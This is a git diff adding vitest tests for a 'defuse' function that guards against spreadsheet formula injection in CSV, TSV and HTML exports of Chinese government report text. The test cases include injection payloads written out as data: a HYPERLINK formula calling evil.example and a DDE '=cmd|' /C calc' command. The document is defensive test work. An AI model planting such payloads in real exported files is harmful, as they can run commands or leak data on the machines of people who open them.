@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { toCsv, toHtmlTable, toMarkdown, toTsv } from '../../../lib/export/delimited';
+import { defuse, toCsv, toHtmlTable, toMarkdown, toTsv } from '../../../lib/export/delimited';
 import { reportMatrix, tableMatrix, wideRow } from '../../../lib/export/table-matrix';
 import { checkText } from '../../../lib/pipeline';
 import { seedText } from '../../helpers/seeds';
@@ -52,5 +52,26 @@ describe('serialisers', () => {
   });
   it('should write an HTML table for the clipboard', () => {
     expect(toHtmlTable([['<x>', '1']])).toBe('<table><tr><td>&lt;x&gt;</td><td>1</td></tr></table>');
+  });
+});
+
+describe('defuse (spreadsheet formula injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x","某局2023年政府信息公开工作年度报告")', `'=HYPERLINK("http://evil.example/?x","某局2023年政府信息公开工作年度报告")`],
+    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['+1+1', "'+1+1"],
+    ['\tx', "'\tx"],
+    ['-8', '-8'],
+    ['+1036', '+1036'],
+    ['-', '-'],
+    ['北京市密云区商务局', '北京市密云区商务局'],
+  ])('should make %j safe to open: %j', (cell, out) => expect(defuse(cell)).toBe(out));
+
+  it('should defuse page text in every spreadsheet format it is written to', () => {
+    const m = [['机关'], ['=HYPERLINK("http://evil.example","x")']];
+    expect(toCsv(m)).toBe('\ufeff机关\r\n"\'=HYPERLINK(""http://evil.example"",""x"")"\r\n');
+    expect(toTsv(m)).toBe('机关\r\n"\'=HYPERLINK(""http://evil.example"",""x"")"');
+    expect(toHtmlTable(m)).toContain("<td>'=HYPERLINK");
   });
 });
